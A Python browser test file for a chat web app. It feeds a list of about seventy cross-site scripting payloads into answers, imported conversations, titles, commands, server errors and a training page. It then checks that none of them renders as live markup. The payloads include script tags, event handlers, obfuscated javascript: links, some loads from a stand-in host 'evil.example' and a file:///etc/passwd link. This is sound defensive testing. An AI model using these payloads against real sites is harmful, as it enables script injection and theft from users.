"""Nothing that a model, a file or a tool says becomes markup: known attacks in every place where text is shown.

Beside what is asserted here, each test fails where a script ran, a dialog opened, the policy was violated or a request
left for elsewhere (browser.py watches).
"""

import json

from tests.serve.browser import ask, conversation_file, module, open_chat, until

ATTACKS = [
    "<script>window.hacked=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=window.hacked=1>",
    "<img src=`x`onerror=window.hacked=1>",
    '<IMG """><SCRIPT>window.hacked=1</SCRIPT>">',
    "<svg onload=window.hacked=1>",
    "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
    "<svg><script href=data:,window.hacked=1 /></svg>",
    "<math><mi xlink:href='javascript:window.hacked=1'>x</mi></math>",
    "<iframe src=javascript:window.hacked=1></iframe>",
    '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    "<object data=javascript:window.hacked=1></object>",
    "<embed src=javascript:window.hacked=1>",
    "<body onload=window.hacked=1>",
    "<details open ontoggle=window.hacked=1>x</details>",
    "<input autofocus onfocus=window.hacked=1>",
    "<video><source onerror=window.hacked=1></video>",
    "<audio src=x onerror=window.hacked=1>",
    "<form action=javascript:window.hacked=1><button>x</button></form>",
    "<form id=x></form><button form=x formaction=javascript:window.hacked=1>x</button>",
    "<meta http-equiv=refresh content='0;url=javascript:window.hacked=1'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; * {background: url(//evil.example/y)}</style>",
    "<div style='background:url(javascript:window.hacked=1)'>x</div>",
    "<template><script>window.hacked=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
    "<!--<img src='--><img src=x onerror=window.hacked=1>//'>",
    "<![CDATA[<script>window.hacked=1</script>]]>",
    "<a href=javascript:window.hacked=1>x</a>",
    "[x](javascript:window.hacked=1)",
    "[x](JaVaScRiPt:window.hacked=1)",
    "[x](java\tscript:window.hacked=1)",
    "[x](\x01javascript:window.hacked=1)",
    "[x](&#106;avascript:window.hacked=1)",
    "[x](javascript&colon;window.hacked=1)",
    "[x](javascript://%0awindow.hacked=1)",
    "[x](<javascript:window.hacked=1>)",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](blob:https://evil.example/1)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "![x](javascript:window.hacked=1)",
    "![x](https://evil.example/pixel.png)",
    "![x](x\" onerror=\"window.hacked=1)",
    "<javascript:window.hacked=1>",
    "<https://x.example/\"onmouseover=window.hacked=1>",
    "https://x.example/\"onmouseover=\"window.hacked=1",
    "[x](https://x.example/'onclick='window.hacked=1 'title\"onclick=window.hacked=1')",
    "[<img src=x onerror=window.hacked=1>](https://x.example)",
    "[x][1]\n\n[1]: javascript:window.hacked=1",
    "`<img src=x onerror=window.hacked=1>`",
    "```html\"><img src=x onerror=window.hacked=1>\n</code></pre><script>window.hacked=1</script>\n```",
    "```<script>window.hacked=1</script>",
    "| <img src=x onerror=window.hacked=1> |\n|---|\n| <script>window.hacked=1</script> |",
    "# <script>window.hacked=1</script>",
    "- [x] <img src=x onerror=window.hacked=1>",
    "1. <svg/onload=window.hacked=1>",
    "> <iframe src=javascript:window.hacked=1>",
    "**<b onmouseover=window.hacked=1>**",
    "\ufffc0\ufffc\ufffc99999\ufffc",
    "{{constructor.constructor('window.hacked=1')()}}",
    "${window.hacked=1}",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+window.hacked=1//'>",
    "\u202e\u2066<script>window.hacked=1</script>\x00",
    "&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;img src=x onerror=window.hacked=1&#62;",
    "__proto__",
]  # fmt: skip

# Of all that lies in the conversation and the list: which elements and attributes are not the page's own.
STRANGERS = """() => {
  const tags = ("li article header footer div span button p a em strong del code pre br hr h3 h4 h5 h6 ul ol "
    + "blockquote table thead tbody tr th td details summary dl dt dd nav svg path section h2 i b input").split(" ");
  const names = ("class id title type tabindex role rel href target scope start disabled hidden open style d viewBox "
    + "aria-label aria-hidden aria-pressed aria-busy aria-current aria-describedby "
    + "data-parent data-by data-id data-index").split(" ");
  const found = [];
  for (const element of document.querySelectorAll("#turns *, .conversations *, #toasts *")) {
    if (!tags.includes(element.localName)) found.push(element.localName);
    for (const { name, value } of element.attributes) {
      if (!names.includes(name)) found.push(`${element.localName}[${name}]`);
      if (name === "style" && !/^(--[a-z]+: [\\w.-]+;? ?)+$/.test(value)) found.push(`style=${value}`);
      if (name === "href" && !/^(https?:\\/\\/|mailto:)/.test(value)) found.push(`href=${value}`);
      if (name === "href" && element.rel !== "noopener noreferrer nofollow") found.push(`rel=${element.rel}`);
    }
    if (element.localName === "input" && element.className !== "rename") found.push("input");
  }
  if (window.hacked || top.hacked) found.push("a script ran");
  return found;
}"""


def strangers(page):
    page.evaluate(
        "document.querySelectorAll('#turns *').forEach((e) => ['mouseover', 'focus', 'toggle'].forEach("
        "(name) => e.dispatchEvent(new Event(name, {bubbles: true}))))"
    )
    return page.evaluate(STRANGERS)


def test_attacks_in_an_answer_that_streams_in(page, site):
    assert len(ATTACKS) >= 60
    half = len(ATTACKS) // 2
    for number, attacks in enumerate((ATTACKS[:half], ATTACKS[half:])):
        text = "\n\n".join(attacks).replace("{", "(").replace("}", ")")
        site.answers[f"attack {number}"] = text
        page.evaluate("localStorage.setItem('pynanochat.sampling', JSON.stringify({max_tokens: 1900}))")
    page.reload()
    page.wait_for_selector(".stage", state="attached")
    ask(page, "attack 0")
    page.keyboard.press("Control+Shift+N")
    ask(page, "attack 1")
    assert not strangers(page)
    assert "window.hacked" in page.locator(".answer").inner_text()


def test_each_attack_by_itself_whole_and_letter_by_letter(page):
    render = """
      const place = document.querySelector("#turns");
      for (const text of argument) {
        const [whole, grown] = [0, 1].map(() => place.appendChild(document.createElement("div")));
        new m.MarkdownView(whole).update(text, false);
        const view = new m.MarkdownView(grown);
        for (let at = 0; at <= text.length; at++) view.update(text.slice(0, at), true);
        view.update(text, false);
      }
      await new Promise((resolve) => setTimeout(resolve, 100));
    """
    module(page, "render.js", render, ATTACKS)
    assert not strangers(page)


def node(id, parent, **fields):
    return {id: {"id": id, "parent": parent, "time": 1, **fields}}


def test_attacks_in_an_imported_file_wherever_it_has_text(page, site):
    """Titles, messages, answers, calls and results, notices, models, tokens and what went wrong."""
    conversations = []
    for attack in ATTACKS:
        events = [{"kind": kind, "text": attack} for kind in ("notice", "text", "tool_call", "tool_output", "text")]
        answer = {
            "role": "assistant", "events": events, "model": attack, "group": attack, "state": "failed",
            "finish": attack,
            "error": {"kind": attack, "message": attack}, "usage": {"total_tokens": attack, "context": 5},
            "tokens": [[attack, -1.0, [[attack, -2.0]]]],
        }  # fmt: skip
        nodes = (
            node(attack, "root", role="user", text=attack) | node("a", attack, **answer) | node("b", attack, **answer)
        )
        conversations.append({"title": attack, "named": True, "nodes": nodes, "picks": {}, "created": 1, "updated": 2})
    page.set_input_files("[type=file]", conversation_file(*conversations))
    until(page, f"document.querySelectorAll('.row').length === {len(ATTACKS)}")
    page.wait_for_selector(".compare .trouble")
    assert not strangers(page)
    rows = [page.locator(".row").nth(number) for number in range(0, len(ATTACKS), 6)]
    for row in [*rows, page.locator(".row").filter(has=page.get_by_text("__proto__", exact=True))]:
        row.locator(".open").click()
        until(page, f"location.hash === '#{row.get_attribute('data-id')}'")
        page.wait_for_selector(".compare .trouble")
        page.locator("[aria-label='Token probabilities']").first.click()
        page.locator(".token").first.hover()
        page.locator(".token").first.focus()
        assert not strangers(page)
    page.fill("[type=search]", "<script>")
    until(page, f"document.querySelectorAll('.row').length < {len(ATTACKS)}")
    assert not strangers(page)


def test_attacks_as_messages_titles_and_commands(page, site):
    for attack in ATTACKS[:3] + ATTACKS[30:32]:
        ask(page, attack)
    page.fill("#message", "/<img src=x onerror=window.hacked=1>")
    page.keyboard.press("Enter")
    page.wait_for_selector(".question >> nth=5")
    page.goto(site.address + "/#<img src=x onerror=window.hacked=1>")
    page.reload()
    page.wait_for_selector(".row")
    assert not strangers(page)


def test_attacks_in_what_the_server_says(new_page, site):
    attack = "<img src=x onerror=window.hacked=1>"
    page = new_page()
    body = json.dumps({"error": {"message": attack, "code": attack, "type": attack}})
    page.route(
        "**/v1/chat/completions", lambda route: route.fulfill(status=400, body=body, content_type="application/json")
    )
    entry = {"id": f"{attack}:{attack}", "pynanochat": {"stage": attack, "run": attack}}
    page.route("**/v1/models", lambda route: route.fulfill(body=json.dumps({"data": [entry]})))
    page.route("**/stats", lambda route: route.fulfill(body=json.dumps({"run": attack, "limits": {}, "defaults": {}})))
    open_chat(page, site)
    page.fill("#message", "hi")
    page.keyboard.press("Enter")
    page.wait_for_selector(".trouble")
    assert attack in page.locator(".trouble").inner_text()
    assert page.locator("img").count() == 1, "the page's own picture alone"
    assert not page.evaluate("window.hacked")


def test_the_training_page_shows_a_models_text_as_text(new_page, site):
    page = new_page()
    samples = [{"prompt": attack, "text": attack} for attack in ATTACKS]
    points = [{"step": 1, "loss": 2.0}, {"step": 2, "loss": 1.0, "<img src=x>": 3, "samples": samples}]
    data = {"run": ATTACKS[0], "stages": [{"stage": "pretrain", "done": False, "points": points}]}
    page.route("**/watch/data", lambda route: route.fulfill(body=json.dumps(data), content_type="application/json"))
    page.goto(site.address + "/watch")
    page.wait_for_selector("#samples li")
    assert page.locator("#samples li").count() == len(ATTACKS)
    assert page.locator("main :is(script, img, iframe, svg [onload], a, form, object)").count() == 0
    assert not page.evaluate("window.hacked")
